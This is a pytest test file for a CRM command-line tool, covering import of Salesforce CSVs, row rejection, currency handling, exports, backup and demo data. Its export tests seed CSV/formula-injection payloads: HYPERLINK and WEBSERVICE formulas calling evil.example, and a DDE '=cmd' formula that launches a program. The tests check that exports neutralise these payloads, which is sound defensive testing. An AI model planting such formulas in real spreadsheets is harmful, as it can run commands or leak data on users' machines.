"""python -m gtm import / export / backup / demo, as a user runs them, on SQLite and PostgreSQL.

Most tests call gtm.cli.main in-process (the same code as ``python -m gtm``, without a second interpreter
start); the end-to-end and environment-variable tests run a real subprocess.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from fixtures_import import (
    SF_ACCOUNT_HEADER,
    SF_ACCOUNTS,
    SF_OPPORTUNITY_HEADER,
    snapshot,
    text_bytes,
)

from gtm.cli import main
from gtm.domain.permissions import ADMIN, Actor, Role
from gtm.export.tables import TRIGGERS
from gtm.services import decisions
from gtm.services.currency import set_exchange_rates
from gtm.storage.repository import Store

FACILITATOR = Actor("Sam Okafor", Role.FACILITATOR)
ROOT = Path(__file__).resolve().parents[1]
SF_OPPORTUNITIES = [
    ["006A", "Müller Anlagenbau GmbH", "Retrofit", "Prospecting", "$1,234.50", "20", "31/03/2026", "New", "Jörg"],
    ["006B", "Mueller AG", "Pumps", "Prospecting", "$10.00", "20", "31/03/2026", "", ""],
    ["006C", "Ørsted Façades A/S", "Façade", "Proposal", "$7.00", "150", "01/04/2026", "", ""],
    ["006D", "Société Générale d'Énergie", "Wind", "Negotiation", "$12,000.00", "75", "30/06/2026", "", ""],
]


def gtm(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "gtm", *args], capture_output=True, text=True, cwd=ROOT,
                          timeout=120, env={**os.environ, **(env or {})})


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out = capsys.readouterr()
    return code, out.out, out.err


@pytest.fixture
def files(tmp_path: Path) -> dict[str, Path]:
    """The Salesforce exports a user would have on disk (cp1252, as Excel on Windows saves CSV)."""
    out = {
        "accounts": tmp_path / "Accounts.csv",
        "opportunities": tmp_path / "Opportunities.csv",
        "good_opportunities": tmp_path / "Good.csv",
    }
    out["accounts"].write_bytes(text_bytes(SF_ACCOUNT_HEADER, SF_ACCOUNTS, encoding="cp1252"))
    out["opportunities"].write_bytes(text_bytes(SF_OPPORTUNITY_HEADER, SF_OPPORTUNITIES, encoding="cp1252"))
    out["good_opportunities"].write_bytes(
        text_bytes(SF_OPPORTUNITY_HEADER, [SF_OPPORTUNITIES[0], SF_OPPORTUNITIES[3]], encoding="cp1252"))
    return out


def test_import_end_to_end_as_a_user_runs_it(tmp_path: Path, files: dict[str, Path]) -> None:
    db = f"sqlite:///{tmp_path / 'crm.db'}"
    first = gtm("import", "accounts", str(files["accounts"]), "--database", db)
    assert first.returncode == 0, first.stderr
    assert "encoding cp1252" in first.stdout and "name <- 'Account Name'" in first.stdout
    assert "accounts: 3 added, 0 updated, 0 rejected" in first.stdout
    again = gtm("import", "accounts", str(files["accounts"]), "--database", db)
    assert again.returncode == 0 and "accounts: 0 added, 3 updated, 0 rejected" in again.stdout
    opps = gtm("import", "opportunities", str(files["good_opportunities"]), "--database", db)
    assert opps.returncode == 0, opps.stderr
    assert "opportunities: 2 added, 0 updated, 0 rejected" in opps.stdout
    store = Store(db)
    assert store.counts()["accounts"] == 3 and store.counts()["opportunities"] == 2
    assert set(store.opportunities()["account_name"]) == {"Müller Anlagenbau GmbH", "Société Générale d'Énergie"}
    store.dispose()


def test_any_rejected_row_fails_the_import_and_writes_nothing(
        db_url: str, files: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "import", "accounts", str(files["accounts"]), "--database", db_url)[0] == 0
    store = Store(db_url)
    before = snapshot(store)
    code, out, err = run(capsys, "import", "opportunities", str(files["opportunities"]), "--database", db_url)
    assert code != 0
    assert "row 3, column 'Account Name': value 'Mueller AG'" in err
    assert "row 4, column 'Probability (%)': value '150'" in err
    assert "nothing was imported" in err and "Traceback" not in err
    assert "4 rows read, 2 valid, 2 rejected" in out
    assert snapshot(store) == before
    store.dispose()


def test_skip_invalid_imports_the_valid_rows_and_writes_rejects_with_reasons(
        tmp_path: Path, files: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    db = f"sqlite:///{tmp_path / 'crm.db'}"
    run(capsys, "import", "accounts", str(files["accounts"]), "--database", db)
    rejects = tmp_path / "rejected.csv"
    code, out, _ = run(capsys, "import", "opportunities", str(files["opportunities"]), "--database", db,
                       "--skip-invalid", "--rejects", str(rejects))
    assert code == 0
    assert "opportunities: 2 added, 0 updated, 2 rejected" in out
    assert f"wrote 2 rejected rows with reasons to {rejects}" in out
    back = pd.read_csv(rejects, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert back["row"].tolist() == ["3", "4"]
    assert back["Account Name"].tolist() == ["Mueller AG", "Ørsted Façades A/S"]  # as written, accents intact
    assert "not a known account name" in back["reasons"][0] and "Probability (%)" in back["reasons"][1]
    store = Store(db)
    assert sorted(store.opportunities()["opportunity_id"]) == ["006A", "006D"]
    store.dispose()


def test_dry_run_reports_and_writes_nothing(
        tmp_path: Path, files: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    db = f"sqlite:///{tmp_path / 'crm.db'}"
    code, out, _ = run(capsys, "import", "accounts", str(files["accounts"]), "--database", db, "--dry-run")
    assert code == 0 and "3 to add, 0 to update" in out and "dry run: nothing was written" in out
    store = Store(db)
    assert store.counts()["accounts"] == 0
    run(capsys, "import", "accounts", str(files["accounts"]), "--database", db)
    version = store.data_version()
    code, out, err = run(capsys, "import", "opportunities", str(files["opportunities"]), "--database", db,
                         "--dry-run")
    assert code == 1 and "Mueller AG" in err and "nothing was written" in out
    assert store.counts()["opportunities"] == 0 and store.data_version() == version
    store.dispose()


def test_an_import_prepares_the_pages_snapshot_of_a_large_portfolio(
        tmp_path: Path, files: dict[str, Path], capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    from gtm.services import portfolio as portfolio_service
    from gtm.storage import snapshot as snapshots

    cache = tmp_path / "cache"
    monkeypatch.setenv(snapshots.ENV, str(cache))
    monkeypatch.setattr(portfolio_service, "SNAPSHOT_MIN_ROWS", 1)  # two opportunities count as large here
    db = f"sqlite:///{tmp_path / 'crm.db'}"
    run(capsys, "import", "accounts", str(files["accounts"]), "--database", db)
    code, out, _ = run(capsys, "import", "opportunities", str(files["good_opportunities"]), "--database", db,
                       "--no-snapshot")
    assert code == 0 and "snapshot" not in out and not list(cache.glob("*"))
    code, out, _ = run(capsys, "import", "opportunities", str(files["good_opportunities"]), "--database", db)
    assert code == 0 and "prepared the pages' snapshot of 2 opportunities" in out
    store = Store(db)
    name = snapshots.key(store.url, store.workspace, store.portfolio_version(), store.portfolio_stamp())
    secret = store.snapshot_secret()
    store.dispose()
    assert [p.name for p in cache.iterdir()] == [f"{name}{snapshots.SUFFIX}"]
    assert snapshots.load(name, secret, cache) is not None  # the next page's first run reads this file


def test_mapping_file_on_the_command_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = f"sqlite:///{tmp_path / 'crm.db'}"
    src = tmp_path / "deals.csv"
    src.write_bytes(text_bytes(["Kunde Nr", "Firma", "Auftragswert", "Abschluss"],
                               [["K-1", "Müller Anlagenbau GmbH", "1.234,50 €", "02/03/2026"]],
                               delimiter=";", encoding="cp1252"))
    accounts = tmp_path / "firms.csv"
    accounts.write_bytes(text_bytes(["Kunde Nr", "Firma"], [["K-1", "Müller Anlagenbau GmbH"]], delimiter=";"))
    acc_map = tmp_path / "accounts.map"
    acc_map.write_text("account_id = Kunde Nr\nname = Firma\n", encoding="utf-8")
    opp_map = tmp_path / "deals.json"
    opp_map.write_text('{"columns": {"opportunity_id": "Kunde Nr", "account_name": "Firma", "value": "Auftragswert",'
                       ' "close_date": "Abschluss"}, "date_format": "mm/dd/yyyy"}', encoding="utf-8")
    assert run(capsys, "import", "accounts", str(accounts), "--database", db, "--mapping", str(acc_map))[0] == 0
    code, _out, err = run(capsys, "import", "opportunities", str(src), "--database", db, "--mapping", str(opp_map))
    assert code == 1 and "No exchange rate for EUR (1 row)" in err  # euros are never read as dollars
    set_exchange_rates(Store(db), ADMIN, [{"currency": "EUR", "rate": 1.1}])
    code, _out, err = run(capsys, "import", "opportunities", str(src), "--database", db, "--mapping", str(opp_map))
    assert code == 0, err
    row = Store(db).opportunities().iloc[0]
    assert (row["value"], row["currency"], str(row["close_date"]), row["account_name"]) == (
        1234.5, "EUR", "2026-02-03", "Müller Anlagenbau GmbH")


@pytest.mark.parametrize("content, fragment", [
    (b"", "is empty"),
    (b"Opportunity ID,Account ID,Amount\r\n", "no data rows"),
    (b"Opportunity ID,Account ID,Amount\r\nO1,A1,5\r\nO2,A", "truncated"),
    (b"%PDF-1.4\n\x00\x01\x02binary", "not a spreadsheet"),
], ids=["empty", "header-only", "truncated", "pdf"])
def test_unreadable_files_exit_2_with_a_message_not_a_traceback(
        tmp_path: Path, content: bytes, fragment: str, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "export.csv"
    path.write_bytes(content)
    code, _, err = run(capsys, "import", "opportunities", str(path), "--database", f"sqlite:///{tmp_path / 'x.db'}")
    assert code == 2 and err.startswith("error:") and fragment in err and "Traceback" not in err


def test_the_command_line_size_limit_from_the_environment_is_a_clear_message(tmp_path: Path,
                                                                            files: dict[str, Path]) -> None:
    db = f"sqlite:///{tmp_path / 'crm.db'}"
    # The browser's upload limit does not bind administrators on the command line; their own setting does.
    result = gtm("import", "accounts", str(files["accounts"]), "--database", db, "--dry-run",
                 env={"GTM_MAX_UPLOAD_MB": "0.0001"})
    assert result.returncode == 0, result.stderr
    result = gtm("import", "accounts", str(files["accounts"]), "--database", db,
                 env={"GTM_CLI_MAX_MB": "0.0001"})
    assert result.returncode == 2
    assert "too large" in result.stderr and "on the command line" in result.stderr
    assert "GTM_CLI_MAX_MB" in result.stderr
    assert "Traceback" not in result.stderr
    store = Store(db)
    assert store.counts()["accounts"] == 0
    store.dispose()


# --------------------------------------------------------------------------- exports, backup, demo

RISKY = ["=HYPERLINK(\"http://evil.example\",\"click\")", "+49 30 1234", "-2+3", "@SUM(A1:A2)", "=1+1"]


def _portfolio_with_risky_text(db: str, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    accounts = tmp_path / "risky.csv"
    accounts.write_bytes(text_bytes(
        ["Account ID", "Account Name", "Industry", "Annual Revenue", "Current Approach"],
        [[f"R{i}", name, "=cmd|' /C calc'!A0", "$1,500.25", "lead unit"] for i, name in enumerate(RISKY)]))
    opps = tmp_path / "risky_opps.csv"
    opps.write_bytes(text_bytes(["Opportunity ID", "Account ID", "Opportunity Name", "Amount", "Probability", "Nature"],
                                [[f"O{i}", f"R{i}", "@evil", f"{1000 * (i + 1)}", "50", "turnkey"]
                                 for i in range(len(RISKY))]))
    assert run(capsys, "import", "accounts", str(accounts), "--database", db)[0] == 0
    assert run(capsys, "import", "opportunities", str(opps), "--database", db)[0] == 0
    decisions.record_decision(Store(db), FACILITATOR, "R0", "market_bu", "=WEBSERVICE(\"http://evil.example\")")


def _starts_unescaped(cell: str) -> bool:
    return cell.startswith(TRIGGERS)


@pytest.mark.parametrize("what, numeric", [("accounts", "revenue"), ("opportunities", "value"),
                                           ("decisions", "decision_id")])
def test_exports_open_without_running_anything_and_numbers_stay_numbers(
        db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], what: str, numeric: str) -> None:
    _portfolio_with_risky_text(db_url, capsys, tmp_path)
    csv_path, xlsx_path = tmp_path / f"{what}.csv", tmp_path / f"{what}.xlsx"
    assert run(capsys, "export", what, "-o", str(csv_path), "--database", db_url)[0] == 0
    assert run(capsys, "export", what, "-o", str(xlsx_path), "--database", db_url)[0] == 0

    raw = csv_path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    records = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, body = records[0], records[1:]
    assert len(body) == (1 if what == "decisions" else len(RISKY))
    assert not [c for r in records for c in r if _starts_unescaped(c)]
    col = header.index(numeric)
    assert all(float(r[col]) > 0 for r in body)  # a plain number, not "'1500.25"
    if what == "accounts":
        assert {r[header.index("name")] for r in body} == {"'" + n for n in RISKY}

    european = tmp_path / f"{what}-eu.csv"
    assert run(capsys, "export", what, "-o", str(european), "--database", db_url, "--delimiter", ";")[0] == 0
    eu = list(csv.reader(io.StringIO(european.read_bytes().decode("utf-8-sig")), delimiter=";"))
    assert eu[0] == header and len(eu) == len(records)
    assert not [c for r in eu for c in r if _starts_unescaped(c)]
    assert all(float(r[col].replace(",", ".")) == float(b[col]) for r, b in zip(eu[1:], body, strict=True))
    if what == "decisions":  # ids as integers, times in ISO 8601 with their zone
        assert body[0][header.index("decision_id")].isdigit()
        assert body[0][header.index("created_at")].endswith("+00:00")

    wb = openpyxl.load_workbook(xlsx_path)
    ws = wb.worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and _starts_unescaped(c.value)]
    xl_header = [c.value for c in next(ws.iter_rows(max_row=1))]
    numbers = [row[xl_header.index(numeric)] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert numbers and all(isinstance(v, int | float) and not isinstance(v, bool) for v in numbers)
    if what == "accounts":
        assert sorted(numbers) == [1500.25] * len(RISKY)


def test_backup_copies_the_database(tmp_path: Path, files: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    db = f"sqlite:///{tmp_path / 'crm.db'}"
    run(capsys, "import", "accounts", str(files["accounts"]), "--database", db)
    target = tmp_path / "copy" / "backup.db"
    code, out, _ = run(capsys, "backup", str(target), "--database", db)
    assert code == 0 and "backed up" in out
    copy = Store(f"sqlite:///{target}")
    assert copy.accounts()["name"].tolist() == [r[1] for r in SF_ACCOUNTS]
    copy.dispose()
    code, _, err = run(capsys, "backup", str(target), "--database", db)
    assert code == 2 and "exists already" in err


def test_demo_command_loads_then_reset_replaces_idempotently(db_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "demo", "--database", db_url)
    assert code == 0 and "accounts: 400 added" in out and "opportunities: 3552 added" in out
    code, out, _ = run(capsys, "demo", "--database", db_url)
    assert code == 0 and "already holds the demo" in out and "--reset" in out
    store = Store(db_url, workspace="demo")
    main_store = Store(db_url)
    assert main_store.is_empty()  # the demo lives in its own workspace
    decisions.record_decision(store, FACILITATOR, "ACC-0001", "lead_unit", "Pilot.")  # any account, not only own
    for _ in range(2):
        code, out, _ = run(capsys, "demo", "--reset", "--database", db_url)
        assert code == 0 and "accounts: 400 added, 0 updated" in out
        counts = store.counts()
        assert (counts["accounts"], counts["opportunities"], counts["business_units"], counts["decisions"]) == \
            (400, 3552, 6, 0)
    code, _, err = run(capsys, "demo", "--reset", "--database", db_url, "--workspace", "main")
    assert code == 2 and "never filled with, or replaced by, the demo" in err
    code, _, err = run(capsys, "export", "accounts", "--database", db_url, "--workspace", "Demo!")
    assert code == 2 and "is not a workspace name" in err
    assert main_store.is_empty()
    store.dispose()
    main_store.dispose()


def test_currency_option_says_what_amounts_without_a_currency_are_in(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = f"sqlite:///{tmp_path / 'crm.db'}"
    accounts = tmp_path / "firms.csv"
    accounts.write_bytes(text_bytes(["Account ID", "Account Name"], [["A-1", "Acme Ltd"]]))
    deals = tmp_path / "deals.csv"
    deals.write_bytes(text_bytes(["Opportunity ID", "Account ID", "Amount"], [["D-1", "A-1", "40000"]]))
    assert run(capsys, "import", "accounts", str(accounts), "--database", db)[0] == 0
    code, out, err = run(capsys, "import", "opportunities", str(deals), "--database", db, "--currency", "gbp")
    assert code == 1 and "taken as GBP (chosen on import)" in out and "No exchange rate for GBP (1 row)" in err
    set_exchange_rates(Store(db), ADMIN, [{"currency": "GBP", "rate": 1.3}])
    assert run(capsys, "import", "opportunities", str(deals), "--database", db, "--currency", "GBP")[0] == 0
    assert Store(db).opportunities().iloc[0][["value", "currency"]].tolist() == [40000.0, "GBP"]
    code, _, err = run(capsys, "import", "opportunities", str(deals), "--database", db, "--currency", "pounds")
    assert code == 2 and "'pounds' is not a currency code" in err
